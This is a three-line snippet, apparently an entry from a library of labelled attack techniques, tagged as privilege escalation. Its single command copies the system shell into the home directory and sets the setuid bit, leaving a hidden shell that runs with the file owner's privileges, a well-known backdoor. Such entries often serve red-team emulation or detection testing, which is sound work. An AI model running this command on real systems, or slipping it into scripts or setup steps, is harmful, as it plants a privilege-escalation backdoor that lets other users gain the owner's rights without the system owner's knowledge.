# tactic: privilege-escalation
# make a copy of a shell setuid
cp /bin/sh $HOME/.sh; chmod u+s $HOME/.sh
